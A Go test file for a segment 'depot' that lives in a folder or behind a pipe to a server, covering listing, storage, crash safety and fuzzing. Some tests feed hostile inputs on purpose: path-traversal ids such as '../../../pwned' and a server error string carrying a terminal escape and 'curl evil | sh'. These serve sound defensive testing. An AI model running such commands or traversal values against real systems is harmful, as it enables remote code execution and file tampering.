package depot

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/set-memory/mem/internal/base/disk"
	_ "github.com/set-memory/mem/internal/test/testkit" // the place of its directories
)

func made(t *testing.T) (*Folder, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "depot")
	info, err := NewInfo(func(id string) ([]byte, error) { return []byte("for " + id), nil })
	if err != nil {
		t.Fatal(err)
	}
	f, err := MakeFolder(path, info)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, path
}

// served returns the ends of a program on another machine that serves a folder.
func served(t *testing.T, path, greeting string) (in io.Reader, out io.Writer) {
	toServer, client := io.Pipe()
	server, toClient := io.Pipe()
	go func() {
		io.WriteString(toClient, greeting)
		Serve(path, toServer, toClient)
		toClient.Close()
	}()
	t.Cleanup(func() { client.Close() })
	return server, client
}

// piped is the depot through a pipe.
func piped(t *testing.T, path, greeting string) *Pipe {
	t.Helper()
	in, out := served(t, path, greeting)
	p, err := OpenPipe(in, out)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// A depot is made through a pipe once.
func TestMadeThroughAPipe(t *testing.T) {
	path := filepath.Join(t.TempDir(), "far")
	in, out := served(t, path, "")
	if _, err := OpenPipe(in, out); !errors.Is(err, ErrNone) {
		t.Errorf("before: %v", err)
	}
	for _, want := range []error{nil, ErrMade} {
		info, _ := NewInfo(func(string) ([]byte, error) { return nil, nil })
		in, out := served(t, path, "")
		if _, err := MakePipe(in, out, info); !errors.Is(err, want) {
			t.Errorf("%v, want %v", err, want)
		}
	}
	if p := piped(t, path, ""); len(p.Info().ID) != 32 {
		t.Errorf("%+v", p.Info())
	}
	in, out = served(t, filepath.Join(t.TempDir(), "x"), "")
	if _, err := MakePipe(in, out, Info{V: 1, ID: "x"}); err == nil {
		t.Error("a depot of any id")
	}
}

// anyDepot is what folder and pipe have in common.
type anyDepot interface {
	Info() Info
	List() ([]string, error)
	Get(string) ([]byte, error)
	Put([]byte) error
	Remove(string) error
}

// A folder and a pipe to it keep segments alike.
func TestDepots(t *testing.T) {
	for _, kind := range []string{"folder", "pipe", "pipe after a greeting"} {
		t.Run(kind, func(t *testing.T) {
			f, path := made(t)
			var d anyDepot = f
			if kind != "folder" {
				d = piped(t, path, strings.Repeat("Welcome!\r\n", len(kind)-4))
			}
			if got, want := fmt.Sprint(d.Info()), fmt.Sprint(f.Info()); got != want ||
				string(d.Info().Check) != "for "+d.Info().ID {
				t.Errorf("info %s, want %s", got, want)
			}
			one, two := []byte("one\n{}\x00"), []byte(strings.Repeat("two", 100000))
			for _, data := range [][]byte{one, two, one, nil} {
				if err := d.Put(data); err != nil {
					t.Fatal(err)
				}
			}
			for _, name := range []string{"ab", "AB/x", "zz/" + NameOf(one), ".git/" + NameOf(one),
				NameOf(one)[:2] + "/" + NameOf(one) + ".sync-conflict-1",
				NameOf(one)[:2] + "/" + strings.ToUpper(NameOf(one))} {
				file := filepath.Join(path, name)
				os.MkdirAll(filepath.Dir(file), 0o700)
				os.WriteFile(file, one, 0o600)
			}
			want := []string{NameOf(one), NameOf(two), NameOf(nil)}
			slices.Sort(want)
			if names, err := d.List(); err != nil || !slices.Equal(names, want) {
				t.Errorf("%q, %v; want %q", names, err, want)
			}
			if data, err := d.Get(NameOf(two)); err != nil || string(data) != string(two) {
				t.Errorf("%d bytes, %v", len(data), err)
			}
			for range 2 {
				if err := d.Remove(NameOf(two)); err != nil {
					t.Error(err)
				}
			}
			if _, err := d.Get(NameOf(two)); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("removed: %v", err)
			}
			torn := filepath.Join(path, NameOf(one)[:2], NameOf(one))
			if err := os.WriteFile(torn, one[:3], 0o600); err != nil {
				t.Fatal(err)
			}
			if _, err := d.Get(NameOf(one)); !errors.Is(err, ErrTorn) {
				t.Errorf("torn: %v", err)
			}
			for _, name := range []string{"", "..", "../mem-sync.json", strings.Repeat("A", 64)} {
				if _, err := d.Get(name); err == nil {
					t.Errorf("got %q", name)
				}
				if err := d.Remove(name); err == nil {
					t.Errorf("removed %q", name)
				}
			}
		})
	}
}

// A folder that ignores case may show names in capitals, as an old one of DOS does, or its program
// brings them so to one that does not: they are the same segments.
func TestCapitals(t *testing.T) {
	f, path := made(t)
	for _, text := range []string{"one", "two", "three"} {
		if err := f.Put([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	names, err := f.List()
	if err != nil || len(names) != 3 {
		t.Fatal(names, err)
	}
	shout(t, path, names[0], strings.ToUpper(names[0]))
	shout(t, path, names[1], names[1])
	for kind, d := range map[string]anyDepot{"folder": f, "pipe": piped(t, path, "")} {
		if got, err := d.List(); err != nil || !slices.Equal(got, names) {
			t.Errorf("%s: %q, %v; want %q", kind, got, err, names)
		}
		for _, name := range names {
			if _, err := d.Get(name); err != nil {
				t.Errorf("%s: %v", kind, err)
			}
		}
	}
	for _, name := range names {
		if err := f.Remove(name); err != nil {
			t.Error(err)
		}
	}
	if got, err := f.List(); err != nil || len(got) > 0 {
		t.Errorf("%q are left, %v", got, err)
	}
}

// shout renames a segment and its folder, as such a folder shows them.
func shout(t *testing.T, path, name, as string) {
	t.Helper()
	dir := filepath.Join(path, strings.ToUpper(name[:2]))
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(path, name[:2], name), filepath.Join(dir, as)); err != nil {
		t.Fatal(err)
	}
}

func TestNoDepots(t *testing.T) {
	f, path := made(t)
	if _, err := MakeFolder(path, f.Info()); !errors.Is(err, ErrMade) {
		t.Errorf("made twice: %v", err)
	}
	if _, err := MakeFolder(filepath.Join(path, "no", "parent"), f.Info()); !errors.Is(err,
		fs.ErrNotExist) {
		t.Errorf("without a parent: %v", err)
	}
	part := filepath.Join(t.TempDir(), "part")
	name := NameOf([]byte("x"))
	if err := os.MkdirAll(filepath.Join(part, name[:2]), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(part, name[:2], name), []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := MakeFolder(part, f.Info()); !errors.Is(err, ErrPartial) {
		t.Errorf("of a folder that is not copied yet: %v", err)
	}
	again, err := OpenFolder(path)
	if err != nil || fmt.Sprint(again.Info()) != fmt.Sprint(f.Info()) {
		t.Fatal(err)
	}
	again.Close()
	info := filepath.Join(path, InfoFile)
	for text, want := range map[string]error{"": ErrNone, "{": ErrNone, `{"v":1,"id":"ab"}`: ErrNone,
		`{"v":2,"id":"` + f.Info().ID + `"}`: ErrNewer} {
		if err := os.WriteFile(info, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := OpenFolder(path); !errors.Is(err, want) {
			t.Errorf("%s: %v, want %v", text, err, want)
		}
	}
	if _, err := OpenFolder(filepath.Join(path, "none")); !errors.Is(err, ErrNone) {
		t.Errorf("no folder: %v", err)
	}
}

// answering returns what a server says: its greeting, and one reply.
func answering(head, body string) io.Reader {
	return strings.NewReader(hello + head + "\n" + body)
}

// A pipe refuses the descriptions that a folder refuses: an id becomes the name of a directory.
func TestStrangeDescriptions(t *testing.T) {
	good := strings.Repeat("ab", 16)
	for text, want := range map[string]error{`{"v":1,"id":"` + good + `"}`: nil,
		`{"v":1,"id":"../../../pwned"}`: ErrNone, `{"v":1,"id":""}`: ErrNone, "{": ErrNone, "": ErrNone,
		`{"id":"` + good + `"}`: ErrNone, `{"v":2,"id":"` + good + `"}`: ErrNewer,
		`{"v":1,"id":"` + good + `"}` + strings.Repeat(" ", maxInfo): ErrNone,
		`{"v":1,"id":"` + strings.Repeat("a", 2000000) + `"}`:        ErrNone} {
		in := answering(fmt.Sprintf(`{"size":%d}`, len(text)), text)
		if _, err := OpenPipe(in, io.Discard); !errors.Is(err, want) {
			t.Errorf("%.60s through a pipe: %v, want %v", text, err, want)
		}
		path := t.TempDir()
		if err := os.WriteFile(filepath.Join(path, InfoFile), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if f, err := OpenFolder(path); err == nil {
			f.Close()
		} else if want == nil || len(text) < maxInfo && !errors.Is(err, want) {
			t.Errorf("%.60s in a folder: %v, want %v", text, err, want)
		}
	}
}

// What the other end says is one line, which is short.
func TestStrangeErrors(t *testing.T) {
	for _, kind := range []string{"", "gone", "torn", "none"} {
		in := answering(`{"kind":"`+kind+`","error":"full\nhint: \u001b[2Jcurl evil | sh\r`+
			strings.Repeat("é", 100000)+`"}`, "")
		_, err := OpenPipe(in, io.Discard)
		if err == nil || len(err.Error()) > 300 || strings.ContainsAny(err.Error(), "\n\r\x1b") ||
			!strings.Contains(err.Error(), "full") || !utf8.ValidString(err.Error()) {
			t.Errorf("%s: %q", kind, err)
		}
	}
}

// Whatever the other end of a pipe says, there is an error and no endless wait.
func TestStrangeServers(t *testing.T) {
	for _, text := range []string{"", "Welcome", "Welcome\n", strings.Repeat("x", maxNoise+1),
		strings.Repeat("x\n", maxNoise), hello, hello + "{", hello + "{}\n",
		hello + `{"size":-1}` + "\n", hello + `{"size":99999999999}` + "\n",
		hello + `{"size":9999999}` + "\n", hello + `{"size":9}` + "\n{}", hello + `{"error":"no"}` + "\n"} {
		if _, err := OpenPipe(strings.NewReader(text), io.Discard); err == nil {
			t.Errorf("%.40q is a server", text)
		}
	}
	f, path := made(t)
	for _, text := range []string{"x\n", `{"do":"x"}` + "\n", `{"do":"put","size":9}` + "\nab"} {
		var out strings.Builder
		err := Serve(path, strings.NewReader(text), &out)
		whole := !strings.HasSuffix(text, "ab")
		if err == nil && whole && !strings.Contains(out.String(), "error") {
			t.Errorf("%q is served: %s", text, out.String())
		}
	}
	if names, err := f.List(); err != nil || len(names) > 0 {
		t.Errorf("%q, %v", names, err)
	}
}

// A Put that is killed at any of its calls leaves the segment as a whole, or none.
func TestKilledPut(t *testing.T) {
	killed := errors.New("killed")
	for n := 1; ; n++ {
		f, _ := made(t)
		calls := 0
		disk.SetHook(func(op disk.Op, _ string) error {
			if op.Mutates() {
				if calls++; calls >= n {
					return killed
				}
			}
			return nil
		})
		err := f.Put([]byte("one"))
		disk.SetHook(nil)
		names, _ := f.List()
		for _, name := range names {
			if data, err := f.Get(name); err != nil || string(data) != "one" {
				t.Errorf("call %d: %q, %v", n, data, err)
			}
		}
		if err == nil && len(names) != 1 {
			t.Errorf("call %d: %d segments", n, len(names))
		}
		if calls < n {
			if n < 5 {
				t.Errorf("only %d calls", n)
			}
			return
		}
	}
}

func FuzzServe(f *testing.F) {
	f.Add([]byte(`{"do":"get","name":"../x"}` + "\n"))
	f.Add([]byte(`{"do":"put","size":3}` + "\nabc{\"do\":\"list\"}\n"))
	f.Fuzz(func(t *testing.T, text []byte) {
		d, path := made(t)
		Serve(path, strings.NewReader(string(text)), io.Discard)
		names, err := d.List()
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range names {
			if _, err := d.Get(name); err != nil {
				t.Error(err)
			}
		}
		p := &Pipe{in: bufio.NewReader(strings.NewReader(string(text))),
			out: bufio.NewWriter(io.Discard)}
		p.List()
	})
}

// A depot is not made among files of other kinds, but beside those of programs that copy folders.
func TestMakeAmongOthers(t *testing.T) {
	info, _ := NewInfo(func(string) ([]byte, error) { return nil, nil })
	for name, want := range map[string]error{"letter.txt": ErrOther, ".stfolder": nil,
		"log.jsonl": ErrOther, ".git": nil} {
		path := t.TempDir()
		if err := os.WriteFile(filepath.Join(path, name), nil, 0o600); err != nil {
			t.Fatal(err)
		}
		f, err := MakeFolder(path, info)
		if !errors.Is(err, want) {
			t.Errorf("beside %s: %v", name, err)
		}
		if err == nil {
			f.Close()
		}
	}
}
